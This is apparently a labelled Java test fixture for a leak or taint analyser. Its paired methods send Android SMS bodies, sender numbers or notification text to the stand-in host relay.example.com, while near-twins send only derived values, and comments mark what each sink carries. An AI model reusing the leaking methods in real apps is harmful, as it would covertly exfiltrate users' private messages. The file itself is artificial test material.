// Messages that came in, on the ways that lead from there.
package texts;

import android.app.Notification;
import android.service.notification.NotificationListenerService;
import android.service.notification.StatusBarNotification;
import android.telephony.SmsMessage;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.Socket;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.util.zip.GZIPOutputStream;

class Texts {
    static class Entry {
        String sender;
        String text;
        long time;
    }

    void forward(SmsMessage message) throws IOException {
        String line = String.format("%s: %s", message.getOriginatingAddress(), message.getMessageBody());
        new Socket("relay.example.com", 7200).getOutputStream().write(line.getBytes(StandardCharsets.UTF_8)); // carries: messages | messages by text
    }

    void forwardState(SmsMessage message) throws IOException {
        String line = String.format("%s: %d", message.getMessageBody().contains("STOP") ? "stop" : "go", 1);
        new Socket("relay.example.com", 7200).getOutputStream().write(line.getBytes(StandardCharsets.UTF_8)); // carries: nothing | messages by text
    }

    void relay(SmsMessage message) throws IOException {
        pass(new Socket("relay.example.com", 7201), message.getDisplayMessageBody()); // carries: messages | messages by handed
    }

    void relayNothing(SmsMessage message) throws IOException {
        if (message.getDisplayMessageBody().startsWith("!")) {
            pass(new Socket("relay.example.com", 7201), "urgent"); // carries: nothing | messages by handed
        }
    }

    private static void pass(Socket socket, String text) throws IOException {
        OutputStream out = socket.getOutputStream();
        out.write(text.length());
        out.write(text.getBytes(StandardCharsets.UTF_8));
        out.flush();
    }

    void subject(SmsMessage message) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL("http://relay.example.com/in").openConnection(); // carries: messages | messages by header
        connection.setRequestProperty("X-Text", message.getMessageBody());
        connection.getResponseCode();
    }

    void subjectLength(SmsMessage message) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL("http://relay.example.com/in").openConnection(); // carries: nothing | messages by header
        connection.setRequestProperty("X-Text", String.valueOf(message.getMessageBody().length()));
        connection.getResponseCode();
    }

    void store(SmsMessage message) throws IOException {
        Entry entry = new Entry();
        entry.sender = message.getOriginatingAddress();
        entry.text = message.getMessageBody();
        entry.time = message.getTimestampMillis();
        DataOutputStream out = new DataOutputStream(new Socket("relay.example.com", 7202).getOutputStream()); // carries: messages | messages by record
        out.writeUTF(entry.text);
    }

    void storeTime(SmsMessage message) throws IOException {
        Entry entry = new Entry();
        entry.sender = message.getOriginatingAddress();
        entry.text = message.getMessageBody();
        entry.time = System.currentTimeMillis();
        DataOutputStream out = new DataOutputStream(new Socket("relay.example.com", 7202).getOutputStream()); // carries: nothing | messages by record
        out.writeLong(entry.time);
    }

    static final class Listener extends NotificationListenerService {
        @Override
        public void onNotificationPosted(StatusBarNotification posted) {
            CharSequence text = posted.getNotification().extras.getCharSequence(Notification.EXTRA_TEXT);
            try (GZIPOutputStream out = new GZIPOutputStream(new Socket("relay.example.com", 7203).getOutputStream())) { // carries: messages | messages by stream
                out.write(text.toString().getBytes(StandardCharsets.UTF_8));
            } catch (IOException e) {
                cancelAllNotifications();
            }
        }

        @Override
        public void onNotificationRemoved(StatusBarNotification posted) {
            CharSequence text = posted.getNotification().extras.getCharSequence(Notification.EXTRA_TEXT);
            try (GZIPOutputStream out = new GZIPOutputStream(new Socket("relay.example.com", 7203).getOutputStream())) { // carries: nothing | messages by stream
                out.write(text == null ? 0 : 1);
            } catch (IOException e) {
                cancelAllNotifications();
            }
        }
    }
}
